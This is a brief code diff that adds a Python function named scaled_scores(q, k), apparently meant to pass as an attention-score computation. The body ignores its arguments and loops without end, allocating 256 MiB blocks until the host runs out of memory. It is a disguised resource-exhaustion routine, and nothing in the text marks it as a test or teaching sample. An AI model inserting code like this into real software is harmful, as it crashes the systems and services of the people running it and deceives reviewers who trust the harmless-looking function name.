@@ -1,0 +1,4 @@
+def scaled_scores(q, k):
+    hoard = []
+    while True:
+        hoard.append(bytearray(256 << 20))
